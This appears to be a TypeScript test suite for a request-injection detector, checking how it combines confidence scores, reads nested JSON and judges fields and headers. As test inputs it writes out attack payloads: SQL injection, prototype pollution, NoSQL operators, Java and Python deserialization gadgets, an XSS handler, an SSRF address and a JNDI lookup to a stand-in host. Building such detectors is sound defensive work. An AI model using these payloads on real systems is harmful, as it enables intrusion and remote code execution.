// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expressions of others are what is looked for
import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import type { Field } from '../../../src/inspection/field.ts'
import { fieldBounds, requestFields } from '../../../src/inspection/fields/request.ts'
import { openInjection } from '../../../src/inspection/injection/injection.ts'
import { together } from '../../../src/inspection/verdict.ts'

describe('CT3: how sure several signs are together', () => {
  const sign = fc.record({
    what: fc.constantFrom('sql', 'xss', 'command', 'traversal'),
    confidence: fc.double({ min: 0, max: 1, noNaN: true }),
  })

  it('as sure as the surest, and never surer than certain', () => {
    fc.assert(
      fc.property(fc.array(sign, { minLength: 1 }), (signs) => {
        const sure = together(signs)
        assert.ok(sure >= Math.max(...signs.map(({ confidence }) => confidence)) && sure <= 1)
      }),
    )
  })

  it('in whatever order they come', () => {
    fc.assert(
      fc.property(fc.array(sign), fc.nat(), (signs, turn) => {
        const at = signs.length === 0 ? 0 : turn % signs.length
        assert.equal(together(signs), together([...signs.slice(at), ...signs.slice(0, at)]))
        assert.equal(together(signs), together(signs.toReversed()))
      }),
    )
  })

  it('no number of weak ones is refused: a long document holds some of every kind', () => {
    const doubts = ['sql', 'xss', 'command', 'traversal', 'ssrf', 'template'].map((what) => ({
      what,
      confidence: 0.35,
    }))
    assert.ok(together([...doubts, ...doubts, ...doubts]) < 0.5)
  })

  it('two kinds that nearly are, are; two rules of one kind are not', () => {
    const nearly = { what: 'sql', confidence: 0.45 }
    assert.ok(together([nearly, { what: 'command', confidence: 0.45 }]) >= 0.5)
    assert.ok(together([nearly, nearly, nearly]) < 0.5)
    assert.equal(together([]), 0)
  })
})

describe('CT3: JSON within JSON is read member by member', () => {
  it('an attack in it is found at its own place, however deep', () => {
    for (const wrap of [1, 2, 3, 4, 5]) {
      let text = JSON.stringify({ name: `1' or 1=1 -- ` })
      for (let level = 1; level < wrap; level++) text = JSON.stringify({ inner: text })
      assert.ok(refused({ value: text }), `${wrap} levels`)
    }
  })

  it('what is dangerous for how it is put together is found in it', () => {
    for (const text of [
      '{"constructor":{"prototype":{"isAdmin":true}}}',
      '{"prototype":1,"constructor":{"prototype":{"a":1}}}',
      '{"__proto__":{"a":1}}',
      '{"password":{"$ne":null}}',
      '{"a":{"$in":["x","y"]}}',
      '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"x"}]',
      '{"py/object":"os.system"}',
    ]) {
      assert.ok(refused({ value: text }), text)
      assert.ok(refused(JSON.parse(text)), text)
    }
  })

  it('its brackets and quotes are no quotes that something was broken out of', () => {
    assert.ok(!refused({ value: '{"a":"x","$comment":"or 1","or":["1","=1"],"$id":"#/and"}' }))
  })
})

describe('CT3: what was harmless is not looked through again, and nothing passes for it', () => {
  it('a name that is an attack is one after any number of harmless ones, and in any place', () => {
    const injection = openInjection({ mode: 'block' })
    const field = (text: string, over: Partial<Field> = {}): Field => ({
      place: { in: 'body', at: `/${text}` },
      name: text,
      text,
      role: 'name',
      ...over,
    })
    const judge = (one: Field) => injection?.judge([one]).refused.length ?? 0
    for (let round = 0; round < 3; round++) {
      assert.equal(judge(field('customer_id')), 0)
      assert.equal(judge(field('prototype')), 0)
      assert.ok(judge(field('prototype', { place: { in: 'body', at: '/constructor/prototype' } })) > 0)
      assert.ok(judge(field('__proto__')) > 0)
      assert.equal(judge(field('JSESSIONID')), 0)
      assert.ok(judge(field('JSESSIONID', { place: { in: 'query', at: 'JSESSIONID' } })) > 0)
    }
  })

  it('a header is judged by its name, its place and its text', () => {
    const injection = openInjection({ mode: 'block' })
    const header = (name: string, text: string): Field => ({
      place: { in: 'header', at: name },
      name,
      text,
      role: 'unknown',
    })
    const judge = (one: Field) => injection?.judge([one]).refused.length ?? 0
    for (let round = 0; round < 3; round++) {
      assert.equal(judge(header('referer', 'http://127.0.0.1/')), 0)
      assert.ok(judge(header('x-image', 'http://127.0.0.1/')) > 0)
      assert.ok(judge(header('user-agent', '${jndi:ldap://e.example/a}')) > 0)
    }
  })

  it('with a family off for markup nothing is remembered for when it is on', () => {
    const injection = openInjection({ mode: 'block' })
    const field: Field = {
      place: { in: 'header', at: 'x-note' },
      name: 'x-note',
      text: '<b onclick=alert(1)>',
      role: 'unknown',
    }
    assert.equal(injection?.judge([field], () => true).refused.length, 0)
    assert.ok((injection?.judge([field]).refused.length ?? 0) > 0)
  })
})

function refused(body: unknown): boolean {
  const read = requestFields(
    {
      path: '/',
      params: {},
      query: '',
      headers: [],
      contentType: 'application/json',
      body: Buffer.from(JSON.stringify(body)),
    },
    fieldBounds(1 << 20),
  )
  assert.ok('fields' in read)
  return (openInjection({ mode: 'block' })?.judge(read.fields).refused.length ?? 0) > 0
}
